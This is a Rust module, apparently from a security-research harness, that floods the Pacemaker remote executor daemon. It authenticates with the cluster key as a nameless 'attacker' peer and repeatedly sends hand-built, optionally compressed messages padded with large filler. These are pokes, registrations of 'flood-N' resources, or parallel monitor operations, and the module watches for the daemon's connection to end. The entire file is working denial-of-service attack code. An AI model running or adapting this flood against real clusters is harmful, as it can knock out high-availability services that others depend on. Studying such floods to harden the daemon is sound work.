// SPDX-License-Identifier: LGPL-2.1-or-later
//! A peer with the key, which has no name and so is told nothing but the answers to what it asks.
use crate::node::KEY;
use crate::peer::{Peer, nameless_poke, request};
use crate::{LONG, Outcome, filler};
use std::io::{ErrorKind, Read, Write};
use std::sync::mpsc::channel;
use std::time::Duration;

/// Resources whose operations run beside each other.
const RESOURCES: u32 = 16;

fn nameless(op: &str, data: &str) -> String {
    request(op, 1, data).replace("lrmd_clientname=\"attacker\" ", "")
}

fn registration(resource: u32, filler: &str) -> String {
    let data = format!(
        r#"<lrmd_calldata><lrmd_rsc lrmd_rsc_id="flood-{resource}" lrmd_class="ocf" lrmd_provider="lab" lrmd_type="Quick" flood="{filler}"/></lrmd_calldata>"#
    );
    nameless("lrmd_rsc_register", &data)
}

fn operation(resource: u32, filler: &str) -> String {
    let data = format!(
        r#"<lrmd_calldata><lrmd_rsc lrmd_rsc_id="flood-{resource}" lrmd_rsc_action="monitor" lrmd_rsc_interval="0" lrmd_timeout="20000" lrmd_rsc_start_delay="0" flood="{filler}"><attributes CRM_meta_timeout="20000" crm_feature_set="3.16.2"/></lrmd_rsc></lrmd_calldata>"#
    );
    nameless("lrmd_rsc_exec", &data)
}

/// The frame of a message, with its payload compressed if that is wanted.
fn frame(text: &str, is_compressed: bool) -> Vec<u8> {
    let text = [text.as_bytes(), b"\0"].concat();
    let packed = if is_compressed { compress(&text) } else { Vec::new() };
    let payload = if is_compressed { &packed } else { &text };
    let length = |bytes: usize| u32::try_from(bytes).unwrap();
    let words = [
        0xBADA_DBBD,
        1,
        1,
        0,
        0,
        0,
        length(40 + payload.len()),
        40,
        length(packed.len()),
        length(text.len()),
    ];
    let header = words.iter().flat_map(|word: &u32| word.to_le_bytes());
    header.chain(payload.iter().copied()).collect()
}

fn compress(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::new(4));
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

/// Reads and forgets what the daemon sends; an item when the connection has ended.
fn read_all(peer: &Peer) -> impl Fn() -> bool + use<> {
    let mut socket = peer.socket.try_clone().unwrap();
    let (ended, end) = channel();
    std::thread::spawn(move || {
        let mut buffer = vec![0; 1 << 16];
        loop {
            match socket.read(&mut buffer) {
                Ok(1..) => {}
                Err(error) if error.kind() == ErrorKind::WouldBlock => {
                    std::thread::sleep(Duration::from_millis(1));
                }
                _ => return ended.send(()),
            }
        }
    });
    move || end.try_recv().is_ok()
}

/// Requests of one kind.
pub(crate) fn requests(kind: &str, is_long: bool) -> impl FnMut() -> Outcome + use<> {
    let filler = if is_long { filler(LONG) } else { String::new() };
    let mut peer = Peer::connect(&std::fs::read(KEY).expect("this host has the key"));
    let texts: Vec<_> = match kind {
        "pokes" => vec![nameless_poke(1, &format!(r#"<lrmd_calldata flood="{filler}"/>"#))],
        "registrations" => vec![registration(0, &filler)],
        _ => {
            (0..RESOURCES).for_each(|resource| peer.send(&frame(&registration(resource, ""), false)));
            (0..RESOURCES).map(|resource| operation(resource, &filler)).collect()
        }
    };
    let frames: Vec<_> = texts.iter().map(|text| frame(text, is_long)).collect();
    let has_ended = read_all(&peer);
    peer.socket.set_nonblocking(true).unwrap();
    let (mut turn, mut waiting) = (0, Vec::new());
    move || {
        if waiting.is_empty() {
            turn = (turn + 1) % frames.len();
            waiting = peer.seal(&frames[turn]);
        }
        match peer.socket.write(&waiting) {
            Ok(count) => drop(waiting.drain(..count)),
            Err(error) if error.kind() == ErrorKind::WouldBlock => {}
            Err(_) => return Outcome::Ended,
        }
        match waiting.is_empty() {
            true => Outcome::Sent,
            false if has_ended() => Outcome::Ended,
            false => Outcome::NoRoom,
        }
    }
}
